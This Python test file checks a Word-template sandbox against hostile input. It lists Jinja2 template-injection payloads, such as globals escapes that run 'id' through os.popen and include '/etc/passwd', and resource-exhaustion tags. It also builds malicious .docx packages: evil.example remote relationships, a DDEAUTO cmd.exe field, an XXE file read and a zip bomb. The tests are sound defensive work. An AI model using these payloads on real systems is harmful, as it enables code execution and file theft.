"""Hostile templates: none runs code, reads a file, reaches outside, or takes more than its budget."""

from __future__ import annotations

import io
import time
import zipfile

import docx
import pytest
from jinja2 import TemplateSyntaxError

from tests.documents.packages import FIELDS, VALUES, saved, text_of, with_parts, words
from zhiyan.documents.templates import check, fill
from zhiyan.documents.templates.sandbox import Budget, TooMuch, counted
from zhiyan.kernel.files import FileRefused

TAGS = {
    "class": "{{ 标题.__class__ }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "item access": "{{ 标题['__class__'] }}",
    "attr filter": "{{ 标题|attr('__class__') }}",
    "globals": "{{ self.__init__.__globals__ }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('id') }}",
    "namespace": "{{ namespace().x }}",
    "config": "{{ config.items() }}",
    "range": "{% for x in range(1000000000) %}{{ x }}{% endfor %}",
    "giant text": "{{ '甲' * 1000000000 }}",
    "giant number": "{{ 9 ** 999999999 }}",
    "concat": "{% set a = '甲' * 99999 %}{{ a ~ a }}",
    "format string": "{{ '{0.__class__}'.format(标题) }}",
    "percent format": "{{ '%999999999d' % 条数 }}",
    "format filter": "{{ '%s'|format(标题) }}",
    "center filter": "{{ 标题|center(999999999) }}",
    "map filter": "{{ 问题表|map(attribute='__class__')|list }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "extends": "{% extends '/etc/passwd' %}",
    "macro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "call": "{% call 标题() %}{% endcall %}",
    "recursive loop": "{% for 行 in 问题表 recursive %}{{ loop(问题表) }}{% endfor %}",
    "loop object": "{{ loop.__init__ }}",
    "loop cycle": "{% for 行 in 问题表 %}{{ loop.cycle('a') }}{% endfor %}",
    "debug": "{% debug %}",
    "do": "{% do 标题.append(1) %}",
    "slice": "{{ 标题[::-1] }}",
    "list": "{{ [标题] * 99999999 }}",
    "private": "{{ _甲 }}",
    "deep": "{% for a in 问题表 %}" * 5 + "甲" + "{% endfor %}" * 5,
    "long tag": "{{ 标题" + "|first" * 200 + " }}",
    "nested brackets": "{{ " + "(" * 140 + "标题" + ")" * 140 + " }}",
    "subdoc": "{{p 子文档 }}",
    "rich text": "{{r 标题 }}",
}
W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
RELS = "word/_rels/document.xml.rels"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """A template whose document points to something."""
    line = f'<Relationship Id="rX" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return with_parts(words("{{ 标题 }}"), {}, old="</Relationships>", new=line + "</Relationships>", part=RELS)


def element(xml: str) -> bytes:
    """A template with this in its body."""
    return with_parts(words("{{ 标题 }}"), {}, old="<w:sectPr", new=f"{xml}<w:sectPr")


def field(instruction: str) -> str:
    """A field of Word, its instruction in two runs."""
    half = len(instruction) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction[:half], instruction[half:]))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def bomb() -> bytes:
    """A part of two hundred megabytes in a small package."""
    out = io.BytesIO(words("{{ 标题 }}"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/comments.xml", b"0" * 200_000_000)
    return out.getvalue()


PACKAGES = {
    "remote picture": relation("image", "http://evil.example/a.png"),
    "file picture": relation("image", "file:///etc/passwd"),
    "picture outside the package": relation("image", "../../../etc/passwd", "Internal"),
    "absolute address inside": relation("image", "file:///etc/passwd", "Internal"),
    "attached template": relation("attachedTemplate", "http://evil.example/t.dotm"),
    "hyperlink": relation("hyperlink", "http://evil.example/"),
    "embedded object": relation("oleObject", "embeddings/a.bin", "Internal"),
    "macro part": with_parts(words("{{ 标题 }}"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro type": with_parts(
        words("{{ 标题 }}"), {}, old="officedocument.wordprocessingml.document.main+xml",
        new="ms-word.document.macroEnabled.main+xml", part="[Content_Types].xml",
    ),
    "embedding part": with_parts(words("{{ 标题 }}"), {"word/embeddings/a.xlsx": b"PK"}),
    "active control": with_parts(words("{{ 标题 }}"), {"word/activeX/activeX1.xml": b"<a/>"}),
    "path outside": with_parts(words("{{ 标题 }}"), {"word/../../evil.xml": b"<a/>"}),
    "picture that is none": with_parts(words("{{ 标题 }}"), {"word/media/a.png": b"<svg onload='x'/>"}),
    "alternative chunk": element(f"<w:altChunk {W} xmlns:r='r' r:id='rX'/>"),
    "sub-document": element(f"<w:subDoc {W}/>"),
    "object": element(f"<w:p {W}><w:r><w:object/></w:r></w:p>"),
    "included picture": element(field(' INCLUDEPICTURE "http://evil.example/a.png" ')),
    "included text": element(field(' INCLUDETEXT "/etc/passwd" ')),
    "dde": element(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    "simple field": element(f"<w:p {W}><w:fldSimple w:instr='LINK Excel.Sheet a.xlsx'/></w:p>"),
    "entity": with_parts(
        words("{{ 标题 }}"), {}, old="<w:document", new='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'
    ),
    "bomb": bomb(),
    "no package": b"MZ" + b"0" * 100,
    "half a package": words("{{ 标题 }}")[:3000],
}  # fmt: skip


@pytest.mark.parametrize("name", TAGS)
def test_hostile_tag_is_refused_with_its_place(name):
    checked = check(words("甲", TAGS[name]), "a.docx", FIELDS)
    assert not checked.usable
    assert any(problem.where == "正文第2段" for problem in checked.problems)


@pytest.mark.parametrize(
    "name", [name for name in TAGS if name not in ("subdoc", "rich text", "loop object", "private")]
)
def test_hostile_tag_that_was_never_checked_is_not_run_either(name):
    begun = time.monotonic()
    with pytest.raises(TemplateSyntaxError):
        fill(words(TAGS[name]), VALUES)
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize("tag", ["{{ loop.__init__ }}", "{{ _甲 }}"])
def test_name_with_an_underscore_is_never_looked_up(tag):
    with pytest.raises(TemplateSyntaxError):
        fill(words(tag), {**VALUES, "_甲": "秘密"})


@pytest.mark.parametrize("name", PACKAGES)
def test_hostile_package_is_refused_before_it_is_opened(name):
    checked = check(PACKAGES[name], "a.docx", FIELDS)
    assert [problem.where for problem in checked.problems] == ["整个文件"]
    with pytest.raises(FileRefused):
        fill(PACKAGES[name], VALUES)


@pytest.mark.parametrize("name", ["a.docm", "a.dotm", "a.doc", "a.xlsx"])
def test_file_by_another_name_is_refused(name):
    assert not check(words("{{ 标题 }}"), name, FIELDS).usable


@pytest.mark.parametrize("instruction", ["PAGE", "NUMPAGES", 'TOC \\o "1-3"'])
def test_harmless_field_of_word_is_allowed(instruction):
    assert check(element(field(f" {instruction} ")), "a.docx", FIELDS).usable


def test_loops_in_loops_end_at_the_budget():
    rows = [{"序号": n, "问题": "甲"} for n in range(300)]
    data = words(
        "{% for 甲 in 问题表 %}{% for 乙 in 问题表 %}{% for 丙 in 问题表 %}{% endfor %}{% endfor %}{% endfor %}"
    )
    with pytest.raises(TooMuch):
        fill(data, {**VALUES, "问题表": rows})


def test_output_ends_at_the_budget():
    data = words("{% for 甲 in 问题表 %}{{ 标题 }}{% endfor %}")
    rows = [{"序号": n, "问题": "甲"} for n in range(1000)]
    with pytest.raises(TooMuch):
        fill(data, {"标题": "甲" * 10_000, "问题表": rows}, budget=Budget(characters=1_000_000))


def test_time_ends_at_the_budget():
    data = words("{% for 甲 in 问题表 %}{{ 甲.问题 }}{% endfor %}")
    with pytest.raises(TooMuch):
        fill(data, VALUES, budget=Budget(seconds=-1))


def test_values_are_plain_data_or_nothing():
    with pytest.raises(TypeError):
        counted({"标题": object()}, Budget())


def test_name_of_a_field_in_the_properties_is_no_way_in():
    file = docx.Document()
    file.core_properties.title = "{{ 标题.__class__ }}"
    data = saved(file)
    with pytest.raises(TemplateSyntaxError):
        fill(data, VALUES)


def test_text_box_takes_no_field():
    box = (
        f"<w:p {W}><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent><w:p><w:r>"
        "<w:t>{{ 标题 }}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    assert any("文本框" in problem.what for problem in check(element(box), "a.docx", FIELDS).problems)


def test_many_tags_are_too_many():
    assert "太多" in check(words(*["{{ 标题 }}"] * 2001), "a.docx", FIELDS).problems[0].what


def test_filled_text_stays_text_whatever_it_holds():
    said = "{{ 标题.__class__ }}<w:altChunk/>&lt;"
    assert said in text_of(fill(words("{{ 标题 }}"), {"标题": said}))
